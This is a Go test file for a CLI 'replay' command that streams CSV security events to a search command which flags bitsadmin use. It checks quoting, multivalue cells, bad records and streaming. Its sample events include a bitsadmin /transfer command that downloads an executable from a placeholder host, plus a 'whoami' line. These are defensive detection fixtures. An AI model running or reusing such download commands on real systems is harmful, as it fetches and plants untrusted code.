package cli_test

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// A CSV file's records reach the command as they are, re-quoted only
// where the file quotes more than Splunk's dialect needs: a quoted CR LF
// is kept, the __mv_ companion too, a ragged record gets the header's
// columns; the merged events keep the file's columns, then the outputs.
func TestReplayCSVPassesRecordsThrough(t *testing.T) {
	events := filepath.Join(t.TempDir(), "events.csv")
	file := `"host","CommandLine","__mv_CommandLine","Image"` + "\r\n" +
		`"h1","bitsadmin /transfer j http://e.test/a.exe c:\a.exe` + "\r\n" + `second","$bitsadmin /transfer j http://e.test/a.exe c:\a.exe` + "\r\n" + `$;$second$","C:\Windows\System32\bitsadmin.exe"` + "\r\n" +
		"\r\n" +
		`h2,notepad` + "\r\n" +
		`h3,"say ""hi""",,C:\Windows\notepad.exe` + "\r\n"
	if err := os.WriteFile(events, []byte(file), 0o644); err != nil {
		t.Fatal(err)
	}
	r := run(t, "", "replay", "--events", events, "--chunk-size", "2", "--trace", "--", bitsscoreBin)
	if r.status != 0 {
		t.Fatalf("status %d\nstderr: %s", r.status, r.stderr)
	}
	if !strings.Contains(r.stderr, "3 events in 3 execute requests") {
		t.Errorf("stderr lacks the count:\n%s", r.stderr)
	}
	// The first request's first record: the file's cells, re-quoted.
	if want := `| "bitsadmin /transfer j http://e.test/a.exe c:\a.exe` + "\r"; !strings.Contains(r.stderr, want) {
		t.Errorf("the first request does not carry the record as the file has it (%q):\n%s", want, r.stderr)
	}
	records, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil {
		t.Fatalf("merged events: %v\n%s", err, r.stdout)
	}
	header := records[0]
	if diff := cmp.Diff([]string{"host", "CommandLine", "__mv_CommandLine", "Image", "IsBitsAdmin"}, header[:5]); diff != "" {
		t.Errorf("merged header (-want +got):\n%s", diff)
	}
	get := func(row int, name string) string {
		for c, h := range header {
			if h == name {
				return records[row][c]
			}
		}
		t.Fatalf("no column %s", name)
		return ""
	}
	if len(records) != 4 {
		t.Fatalf("%d merged events, want 3", len(records)-1)
	}
	for _, c := range []struct {
		row        int
		name, want string
	}{
		{1, "IsBitsAdmin", "1"},
		{1, "HasTransfer", "1"},
		// Sent only the field (required_fields does not name its
		// companion), the command wrote its own __mv_ cell.
		{1, "__mv_CommandLine", ""},
		{2, "host", "h2"},
		{2, "Image", ""},
		{2, "IsBitsAdmin", "0"},
		{3, "CommandLine", `say "hi"`},
	} {
		if got := get(c.row, c.name); got != c.want {
			t.Errorf("event %d %s = %q, want %q", c.row, c.name, got, c.want)
		}
	}
}

// A record that cannot be read stops the sending: status 2, with where.
func TestReplayCSVBadRecord(t *testing.T) {
	events := filepath.Join(t.TempDir(), "events.csv")
	os.WriteFile(events, []byte("CommandLine,__mv_CommandLine\na,\nb,$b$;c\nc,\"x\"y\n"), 0o644)
	r := run(t, "", "replay", "--events", events, "--", bitsscoreBin)
	if r.status != 2 || !strings.Contains(r.stderr, "2 events could not be read; the first: "+events+":3: field CommandLine: malformed multivalue cell") {
		t.Errorf("status %d, stderr %q", r.status, r.stderr)
	}
}

// Events are sent as they are read: the first chunk reaches the command
// while the rest of the input has not been written yet. (The input's
// first 4 KiB are read before anything, to tell its encoding.)
func TestReplayStreams(t *testing.T) {
	cmd := exec.Command(bitsscoreBin, "replay", "--events", "-", "--chunk-size", "2", "--trace", "--", bitsscoreBin)
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	stderr, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	var stdout bytes.Buffer
	cmd.Stdout = &stdout
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer cmd.Process.Kill()
	io.WriteString(stdin, "host,CommandLine\nh1,bitsadmin /transfer j http://e.test/a.exe c:\\a.exe\nh2,notepad "+strings.Repeat("x", 5000)+"\n")
	seen := make(chan bool)
	lines := bufio.NewScanner(stderr)
	go func() {
		for lines.Scan() {
			if strings.Contains(lines.Text(), "[4] <- command") { // the first execute reply
				seen <- true
				break
			}
		}
		io.Copy(io.Discard, stderr)
		close(seen)
	}()
	select {
	case ok := <-seen:
		if !ok {
			t.Fatal("replay ended without replying to the first chunk")
		}
	case <-time.After(20 * time.Second):
		t.Fatal("the first chunk was not sent before the input ended")
	}
	io.WriteString(stdin, "h3,whoami\n")
	stdin.Close()
	<-seen
	if err := cmd.Wait(); err != nil {
		t.Fatalf("replay: %v", err)
	}
	if n := strings.Count(stdout.String(), "\n"); n != 4 {
		t.Errorf("%d lines of merged events, want a header and 3:\n%s", n, stdout.String())
	}
}
